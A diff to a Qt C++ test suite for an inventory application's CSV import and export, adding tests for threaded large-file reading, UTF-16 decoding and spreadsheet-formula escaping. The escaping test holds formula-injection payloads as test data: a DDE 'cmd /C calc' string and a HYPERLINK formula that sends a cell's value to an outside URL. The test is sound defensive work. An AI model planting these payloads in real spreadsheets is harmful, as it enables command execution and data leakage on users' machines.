@@ -8,6 +8,7 @@
 #include <QDir>
 #include <QFile>
 #include <QLabel>
+#include <QProgressBar>
 #include <QPushButton>
 #include <QTableWidget>
 #include <QtTest>
@@ -56,6 +57,50 @@ void execSql(const QString &db, const QString &sql)
 {
     const QString error = tv::test::execSql(db, {sql});
     QVERIFY2(error.isEmpty(), qPrintable(error));
+}
+
+// The preview's answer without a window: import whatever can be imported.
+auto acceptWhenReady()
+{
+    return [](ImportScan &scan, const QString &) {
+        scan.wait();
+        return scan.state() == ImportScan::State::Ready && scan.plan().canImport();
+    };
+}
+
+// The stored rows of a plan.
+std::vector<ItemRow> unpacked(const PackedRows &rows)
+{
+    std::vector<ItemRow> all;
+    for (size_t i = 0; i < rows.size(); ++i)
+        all.push_back(rows.at(i));
+    return all;
+}
+
+// A file of items whose four-byte character (a UTF-16 pair) is cut in half by the end of the
+// first block the reader takes: bytesPerUnit 1 for UTF-8, 2 for UTF-16; bom its length.
+QString acrossBlocks(int bytesPerUnit, int bom, int *rows)
+{
+    QString text = QStringLiteral("Item Number;Item Name\r\n");
+    const qsizetype before = (CsvReader::kBlockBytes - 2 - bom) / bytesPerUnit;
+    *rows = 0;
+    while (before - text.size() > 1000)
+        text += QStringLiteral("F-%1;%2\r\n").arg((*rows)++).arg(QString(500, QLatin1Char('x')));
+    text += QStringLiteral("E-1;");
+    text += QString(before - text.size(), QLatin1Char('y'));
+    text += QStringLiteral("\U0001F529\r\n");
+    ++*rows;
+    return text;
+}
+
+QByteArray utf16(const QString &text, bool littleEndian)
+{
+    QByteArray bytes(littleEndian ? "\xFF\xFE" : "\xFE\xFF");
+    for (const QChar c : text) {
+        const char lo = char(c.unicode() & 0xFF), hi = char(c.unicode() >> 8);
+        bytes.append(littleEndian ? lo : hi).append(littleEndian ? hi : lo);
+    }
+    return bytes;
 }
 } // namespace
 
@@ -109,9 +154,67 @@ private slots:
         const ImportPlan plan = planImport(csv, {});
         QVERIFY2(plan.problems.empty(), plan.problems.empty() ? "" : qPrintable(plan.problems.front().why));
         QCOMPARE(plan.rows.size(), size_t(2));
-        QCOMPARE(stored(plan.rows[0]), stored(row));
-        QCOMPARE(stored(plan.rows[1]), stored(row));
-        QCOMPARE(plan.sourceRows, (std::vector<int>{2, 3}));
+        QCOMPARE(stored(plan.rows.at(0)), stored(row));
+        QCOMPARE(stored(plan.rows.at(1)), stored(row));
+        QCOMPARE((std::vector<int>{plan.rows.sourceRow(0), plan.rows.sourceRow(1)}),
+                 (std::vector<int>{2, 3}));
+    }
+
+    // A text a spreadsheet would run as a formula is written with a leading apostrophe, which
+    // import takes away again; numbers and money stay numbers.
+    void formulaCells_data()
+    {
+        QTest::addColumn<int>("column");
+        QTest::addColumn<QVariant>("value");
+        QTest::addColumn<QByteArray>("cell");
+        const auto text = [](const char *s) { return QVariant(QString::fromUtf8(s)); };
+        const std::tuple<const char *, int, QVariant, const char *> rows[] = {
+            {"hyperlink in the name", int(Column::ItemDesc), text("=HYPERLINK(\"http://x/?\"&A1,\"click\")"),
+             "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\""},
+            {"command in the number", int(Column::ItemNum), text("+cmd|' /C calc'!A0"),
+             "'+cmd|' /C calc'!A0"},
+            {"function in the invoice", int(Column::InvNum), text("@SUM(A1:A9)"), "'@SUM(A1:A9)"},
+            {"minus in the vendor", int(Column::Vendor), text("-2+3"), "'-2+3"},
+            {"leading tab", int(Column::ItemDesc), text("\t=1"), "'\t=1"},
+            {"leading carriage return", int(Column::ItemDesc), text("\r=1"), "\"'\r=1\""},
+            {"picture path", int(Column::Image), text("=cmd"), "'=cmd"},
+            {"apostrophe already there", int(Column::Vendor), text("'=1"), "''=1"},
+            {"plain apostrophe untouched", int(Column::Vendor), text("'quoted'"), "'quoted'"},
+            {"minus inside untouched", int(Column::ItemNum), text("A-1"), "A-1"},
+            {"negative cost stays a number", int(Column::ItemCst),
+             QVariant::fromValue(*Money::parse(QStringLiteral("-3.5"))), "-3.5"},
+            {"negative count stays a number", int(Column::ItemCnt), QVariant(qlonglong(-5)), "-5"},
+        };
+        for (const auto &[name, column, value, cell] : rows)
+            QTest::newRow(name) << column << value << QByteArray(cell);
+    }
+    void formulaCells()
+    {
+        QFETCH(int, column);
+        QFETCH(QVariant, value);
+        QFETCH(QByteArray, cell);
+        TestFolder folder;
+        ItemRow row = makeRow(QStringLiteral("Bolt"), QStringLiteral("B-1"), 3, QStringLiteral("1.25"),
+                              QStringLiteral("Acme"), QStringLiteral("2024-03-07"), QStringLiteral("INV-9"));
+        row.setValue(static_cast<Column>(column), value);
+        row.totItemCst.reset();
+        const QString path = folder.file(QStringLiteral("formulas.csv"));
+        exportItemsCsv({row}, path);
+        const QByteArray written = fileBytes(path);
+        // The data line holds the cell exactly, between delimiters.
+        const QByteArray data = written.mid(written.indexOf('\n') + 1);
+        QVERIFY2(data.startsWith(cell + ',') || data.contains(',' + cell + ',') ||
+                     data.contains(',' + cell + "\r\n"),
+                 data.constData());
+        ItemRecordSet rs(folder.databasePath());
+        rs.open();
+        ScriptedPrompts prompts;
+        CsvTransfer importer(rs, {{}, acceptWhenReady(), {}});
+        QVERIFY(importer.importPath(path));
+        QCOMPARE(rs.recordCount(), 1);
+        // Every value back as it was (the total is left to the store).
+        for (const ColumnInfo &c : kColumns)
+            if (c.column != Column::TotItemCst) QCOMPARE(rs.row(0).value(c.column), row.value(c.column));
     }
 
     // Files made by spreadsheets: what is stored, or every problem as row:column:text:why.
@@ -168,7 +271,7 @@ private slots:
         for (const CsvProblem &p : plan.problems)
             got << QStringLiteral("%1:%2:%3:%4").arg(p.row).arg(p.column, p.text, p.why);
         if (plan.problems.empty())
-            for (const ItemRow &r : plan.rows)
+            for (const ItemRow &r : unpacked(plan.rows))
                 got << stored(r);
         QCOMPARE(got, expected);
         QCOMPARE(plan.existingNumbers, existing);
@@ -207,9 +310,9 @@ private slots:
         target.open();
         int previews = 0, refreshed = 0;
         CsvTransfer importer(target, {{},
-                                      [&](const ImportPlan &plan, const QString &) {
+                                      [&](ImportScan &scan, const QString &path) {
                                           ++previews;
-                                          return plan.canImport();
+                                          return acceptWhenReady()(scan, path);
                                       },
                                       [&] { ++refreshed; }});
         QVERIFY(importer.importPath(csvPath));
@@ -223,15 +326,16 @@ private slots:
         for (int i = 0; i < 300; ++i)
             QCOMPARE(stored(reread.row(i)), stored(source.row(i)));
         // A second import adds after the rows already there and counts their numbers.
-        ImportPlan seen;
+        int existing = -1;
         CsvTransfer again(target, {{},
-                                   [&](const ImportPlan &plan, const QString &) {
-                                       seen = plan;
+                                   [&](ImportScan &scan, const QString &) {
+                                       scan.wait();
+                                       existing = scan.plan().existingNumbers;
                                        return true;
                                    },
                                    {}});
         QVERIFY(again.importPath(csvPath));
-        QCOMPARE(seen.existingNumbers, 300);
+        QCOMPARE(existing, 300);
         QCOMPARE(target.recordCount(), 600);
         QCOMPARE(target.position(), 300);
     }
@@ -266,8 +370,12 @@ private slots:
         rs.open();
         ScriptedPrompts prompts;
         bool previewed = false;
-        CsvTransfer importer(
-            rs, {{}, [&](const ImportPlan &, const QString &) { return previewed = true, accept; }, {}});
+        CsvTransfer importer(rs, {{},
+                                  [&](ImportScan &scan, const QString &) {
+                                      scan.wait();
+                                      return previewed = true, accept;
+                                  },
+                                  {}});
         if (failMidway) {
             try {
                 importer.importPath(path);
@@ -323,8 +431,12 @@ private slots:
         ScriptedPrompts prompts;
         prompts.fileAnswer(path);
         bool previewed = false;
-        CsvTransfer importer(rs,
-                             {{}, [&](const ImportPlan &, const QString &) { return previewed = true; }, {}});
+        CsvTransfer importer(rs, {{},
+                                  [&](ImportScan &scan, const QString &) {
+                                      scan.wait();
+                                      return previewed = scan.state() == ImportScan::State::Ready;
+                                  },
+                                  {}});
         QVERIFY(!importer.importFile());
         QVERIFY(!previewed);
         QCOMPARE(prompts.last().text, QStringLiteral("Tallyvane cannot import 'picked.csv'. ") + why);
@@ -370,9 +482,13 @@ private slots:
     {
         QFETCH(QByteArray, csv);
         QFETCH(bool, importable);
-        const ImportPlan plan = planImport(csv, {});
-        frmImport preview(plan, QStringLiteral("/tmp/shop.csv"));
-        QCOMPARE(preview.cmdImport()->isEnabled(), importable);
+        TestFolder folder(false);
+        const QString path = folder.file(QStringLiteral("shop.csv"));
+        writeFile(path, csv);
+        ImportScan scan(path, {});
+        frmImport preview(scan, path);
+        QTRY_COMPARE(scan.state(), ImportScan::State::Ready);
+        QTRY_COMPARE(preview.cmdImport()->isEnabled(), importable);
         QCOMPARE(preview.grdRows()->rowCount(), frmImport::kPreviewRows);
         QCOMPARE(preview.grdRows()->item(0, 2)->text(), QStringLiteral("N0"));
         QCOMPARE(preview.grdRows()->item(0, 4)->text(), QStringLiteral("$1,234.50"));
@@ -382,6 +498,106 @@ private slots:
         QVERIFY(preview.findChild<QLabel *>(QStringLiteral("lblSummary"))
                     ->text()
                     .startsWith(QStringLiteral("shop.csv: 30 items ready to import, 0 of them")));
+    }
+
+    // A large file is read on a thread of its own in blocks, with progress and Cancel in the
+    // preview; only the first problems are listed; a UTF-16 file is read, a character cut by the
+    // end of a block too.
+    void largeAndUnicodeFiles_data()
+    {
+        QTest::addColumn<QByteArray>("bytes");
+        QTest::addColumn<bool>("cancel");
+        QTest::addColumn<int>("listed");
+        QTest::addColumn<QString>("summary");
+        QTest::addColumn<int>("stored");
+        int rows = 0;
+        const QString utf8 = acrossBlocks(1, 3, &rows);
+        QTest::newRow("UTF-8, a character across blocks")
+            << QByteArray("\xEF\xBB\xBF").append(utf8.toUtf8()) << false << 0
+            << QString("items ready to import") << rows;
+        const QString wide = acrossBlocks(2, 2, &rows);
+        QTest::newRow("UTF-16 LE, a character across blocks")
+            << utf16(wide, true) << false << 0 << QString("items ready to import") << rows;
+        QTest::newRow("UTF-16 BE, a character across blocks")
+            << utf16(wide, false) << false << 0 << QString("items ready to import") << rows;
+        QTest::newRow("UTF-16 LE, small")
+            << utf16(QStringLiteral("Item Number,Item Name\r\nA-1,\"Müller, \"\"东京\"\"\"\r\n"), true)
+            << false << 0 << QString("1 item ready to import") << 1;
+        QByteArray bad("Item Number,Amount In Stock\n");
+        for (int i = 0; i < 3000; ++i)
+            bad += "N" + QByteArray::number(i) + ",x\n";
+        QTest::newRow("3000 bad rows")
+            << bad << false << 1000
+            << QString(
+                   "3000 problems must be fixed in the file first: the first 1000 are below, 2000 more are "
+                   "not listed.")
+            << 0;
+        QByteArray large("Item Number,Item Name,Unit Cost\n");
+        for (int i = 0; large.size() < 24 << 20; ++i)
+            large += "L-" + QByteArray::number(i) + ",A rather long name of an item,12.50\n";
+        QTest::newRow("Escape while reading 24 MB") << large << true << 0 << QString("Reading big.csv") << 0;
+    }
+    void largeAndUnicodeFiles()
+    {
+        QFETCH(QByteArray, bytes);
+        QFETCH(bool, cancel);
+        QFETCH(int, listed);
+        QFETCH(QString, summary);
+        QFETCH(int, stored);
+        TestFolder folder;
+        const QString path = folder.file(QStringLiteral("big.csv"));
+        writeFile(path, bytes);
+        bytes.clear();
+        ItemRecordSet rs(folder.databasePath());
+        rs.open();
+        ScriptedPrompts prompts;
+        int shownProblems = -1, progressWhileReading = -1;
+        bool active = false, over = false;
+        QString shownSummary;
+        auto end = ImportScan::State::Reading;
+        CsvTransfer importer(
+            rs, {{},
+                 [&](ImportScan &scan, const QString &file) {
+                     frmImport window(scan, file);
+                     window.show();
+                     window.activateWindow();
+                     active = QTest::qWaitForWindowActive(&window);
+                     if (cancel) {
+                         over = QTest::qWaitFor([&] { return window.prgRead()->value() > 0; });
+                         if (scan.state() == ImportScan::State::Reading)
+                             progressWhileReading = window.prgRead()->value();
+                         shownSummary = window.lblSummary()->text();
+                         QTest::keyClick(window.windowHandle(), Qt::Key_Escape);
+                     } else {
+                         over = QTest::qWaitFor([&] { return scan.state() != ImportScan::State::Reading; });
+                         shownProblems = window.grdProblems()->rowCount();
+                         shownSummary = window.lblSummary()->text();
+                         QTest::mouseClick(window.cmdImport()->isEnabled() ? window.cmdImport()
+                                                                           : window.cmdCancel(),
+                                           Qt::LeftButton);
+                     }
+                     end = scan.state();
+                     return window.result() == QDialog::Accepted;
+                 },
+                 {}});
+        QCOMPARE(importer.importPath(path), stored > 0);
+        QVERIFY(active);
+        QVERIFY(over);
+        QVERIFY2(shownSummary.contains(summary), qPrintable(shownSummary));
+        if (cancel) {
+            QVERIFY(progressWhileReading > 0 && progressWhileReading < 100);
+            QCOMPARE(end, ImportScan::State::Cancelled);
+        } else {
+            QCOMPARE(end, ImportScan::State::Ready);
+            QCOMPARE(shownProblems, listed);
+        }
+        QCOMPARE(storedCount(folder.databasePath()), stored);
+        if (stored > 1)
+            QCOMPARE(tv::test::querySql(folder.databasePath(),
+                                        QStringLiteral("select count(*) from Items where ItemNum = 'E-1' and "
+                                                       "ItemDesc like '%y\U0001F529'"))
+                         .value(0),
+                     QStringLiteral("1"));
     }
 };
 
